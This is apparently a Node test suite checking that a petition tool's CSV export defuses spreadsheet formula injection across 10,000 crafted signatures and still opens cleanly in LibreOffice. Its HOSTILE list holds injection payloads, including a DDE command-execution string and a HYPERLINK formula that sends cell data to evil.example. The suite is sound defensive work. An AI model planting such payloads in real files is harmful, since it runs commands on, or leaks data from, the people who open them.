/** What a spreadsheet makes of 10,000 signatures by people who would rather run something on the organiser's machine. */
import assert from 'node:assert/strict';
import {execFile, execFileSync} from 'node:child_process';
import {randomUUID} from 'node:crypto';
import {readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {before, describe, it} from 'node:test';
import {promisify} from 'node:util';
import {findProgram} from '../../scripts/browsers.mjs';
import {insertAll} from '../src/database/bulk.ts';
import {databaseAddress} from '../src/database/address.ts';
import {Database} from '../src/database/database.ts';
import type {SignatureTable} from '../src/database/tables.ts';
import type {Settings} from '../src/settings.ts';
import {RememberedLog, environmentOf, settingsIn, temporaryFolder} from './running.ts';

const run = promisify(execFile);

const ROWS = 10_000;

const office = findProgram('soffice', 'libreoffice');

/** What people enter. */
const HOSTILE = [
  `=1+1`,
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("https://evil.example/?x="&A1,"Click me")`,
  `+1-202-224-3121`,
  `-2+3`,
  `@SUM(1+1)*2`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
  `He said "no", and left; twice`,
  `two\nlines\r\nand a third`,
  `","=1+1","`,
  `"\r\n=1+1,`,
  `אנא דברו, "בבקשה"`,
  `👩‍👩‍👧 ☮️ é`,
  `  spaces  `,
  `'=1+1`,
  `0044 20 7946`,
  `0301234567`,
  `3-4`,
  `12345678901234567890`,
  `1e5`,
  `8161833e-7170-4074-9046-582866e8e770`,
  `42`,
  `${'x'.repeat(999)}`,
  `;=1+1;`,
  `; "=1+1"`,
  `;\t==1+1`,
  `{"a": "=1"}`,
];

function hostile(index: number): string {
  return HOSTILE[index % HOSTILE.length] ?? '';
}

function signature(index: number): SignatureTable {
  // Of digits alone it would look like a number.
  const id = `a${randomUUID().slice(1)}`;
  return {
    id,
    petition: 'open',
    person_key: id,
    address_key: id,
    state: 'stored',
    listed: 0,
    email: `=${index}+person@example.org`,
    name: null,
    given_name: hostile(index),
    family_name: hostile(index + 7),
    tel: hostile(index + 3),
    street_address: hostile(index + 1),
    postal_code: '01234',
    region: hostile(index + 5),
    country: null,
    comment: hostile(index + 2),
    custom: JSON.stringify({[hostile(index + 4)]: hostile(index)}),
    consents: JSON.stringify([{id: 'updates', given: true, text: hostile(index)}]),
    language: 'en',
    source_page: 'https://blog.example/',
    source_referrer: null,
    source_campaign: hostile(index),
    source_referral: hostile(index + 6),
    elapsed: 9000,
    doubt: null,
    letter: JSON.stringify({subject: hostile(index), body: hostile(index + 9), targets: [hostile(index)]}),
    created_at: new Date().toISOString(),
    confirmed_at: null,
  };
}

async function fill({databaseUrl}: Settings, rows: readonly SignatureTable[]): Promise<void> {
  const database = await Database.open(databaseAddress(databaseUrl), new RememberedLog());
  for (let at = 0; at < rows.length; at += 1000) {
    await database.commit((transaction) => insertAll(transaction, 'signatures', rows.slice(at, at + 1000)));
  }
  await database.close();
}

function exportTo(settings: Settings, file: string): Promise<unknown> {
  const program = join(import.meta.dirname, '../bin/peace-endpoint.mjs');
  const args = [program, 'export', '--petition', 'open', '--out', file];
  return run(process.execPath, args, {env: {...process.env, ...environmentOf(settings)}});
}

/** Reads CSV as RFC 4180 has it, on its own: the program that wrote it must not judge itself. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  let row: string[] = [];
  while (cell.lastIndex < csv.length) {
    const [, quoted, plain, end] = cell.exec(csv) ?? assert.fail(`no cell at ${cell.lastIndex}`);
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('10,000 hostile signatures', () => {
  const folder = temporaryFolder();
  const file = join(folder, 'open.csv');
  const signatures = Array.from({length: ROWS}, (_, index) => signature(index));

  before(async () => {
    const settings = settingsIn(folder);
    await fill(settings, signatures);
    await exportTo(settings, file);
  });

  it('are 10,000 rows of CSV, every value whole, and every formula defused', () => {
    const csv = readFileSync(file, 'utf8');
    assert.ok(csv.startsWith('\ufeff'));
    const [head = [], ...rows] = parsed(csv.slice(1));
    assert.equal(rows.length, ROWS);
    const byId = new Map(rows.map((row) => [row[0], row]));
    const at = (row: string[] | undefined, title: string) => row?.[head.indexOf(title)];
    for (const {id, given_name, comment, tel, email} of signatures) {
      const row = byId.get(id);
      for (const [title, value] of [
        ['given_name', given_name ?? ''],
        ['comment', comment ?? ''],
        ['tel', tel ?? ''],
        ['email', email],
      ] as const) {
        const seen = at(row, title) ?? '';
        assert.equal(seen.replaceAll(/['\t]/g, ''), value.replaceAll(/['\t]/g, ''), `${id} ${title}`);
        assert.ok(seen.length - value.length <= 2, `${title}: ${seen} instead of ${value}`);
      }
    }
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^(?!\t\d)[=+\-@\t\r＝＋－＠]|;[\s"]*=/);
  });

  it('keep their zeros: digits that are no plain number have a tab before them, and nothing else has', () => {
    const [head = [], ...rows] = parsed(readFileSync(file, 'utf8').slice(1));
    const at = (row: string[], title: string) => row[head.indexOf(title)] ?? '';
    assert.deepEqual(new Set(rows.map((row) => at(row, 'postal_code'))), new Set(['\t01234']));
    const given = new Set(rows.map((row) => at(row, 'given_name')).filter((cell) => /^\t?\d/.test(cell)));
    assert.deepEqual(
      given,
      new Set([
        ...['\t0044 20 7946', '\t0301234567', '\t3-4', '\t12345678901234567890', '\t1e5', '42'],
        '8161833e-7170-4074-9046-582866e8e770',
      ]),
    );
  });

  it('may hold long rows of tabs, which are looked through once', async () => {
    const settings = settingsIn(temporaryFolder());
    await fill(settings, [{...signature(0), comment: `a${'\t'.repeat(300_000)}`}]);
    const started = performance.now();
    await exportTo(settings, join(settings.content, 'tabs.csv'));
    assert.ok(performance.now() - started < 30_000);
  });

  it(
    'open unharmed in LibreOffice',
    {skip: !office && 'LibreOffice is not installed', timeout: 300_000},
    () => {
      const profile = `-env:UserInstallation=file://${folder}/profile`;
      // Comma, quote, UTF-8, and formulas are computed: the last one is what Excel always does.
      const filter = 'CSV:44,34,76,1,,0,false,true,false';
      /** The file as LibreOffice has read it: one XML text with all cells. */
      const opened = (from: string) => {
        const args = [
          profile,
          '--headless',
          `--infilter=${filter}`,
          '--convert-to',
          'fods',
          '--outdir',
          folder,
        ];
        execFileSync(office ?? '', [...args, from], {stdio: 'pipe'});
        return readFileSync(from.replace('.csv', '.fods'), 'utf8');
      };
      const content = opened(file);
      assert.equal(content.match(/table:formula="[^"]*"/g), null);
      assert.equal(content.match(/<text:p><text:tab\/>01234<\/text:p>/g)?.length, ROWS);
      const ids = content.match(/>a[\da-f]{7}-[\da-f]{4}-4[\da-f]{3}-[\da-f]{4}-[\da-f]{12}</g);
      assert.equal(ids?.length, ROWS);
      assert.ok(content.includes('אנא דברו, "בבקשה"') || content.includes('אנא דברו, &quot;בבקשה&quot;'));

      // What is not defused would be a formula: the check can fail.
      const proof = join(folder, 'proof.csv');
      writeFileSync(proof, '\ufeffid\r\n=1+1\r\n');
      assert.match(opened(proof), /table:formula="of:=1\+1"/);
    },
  );
});
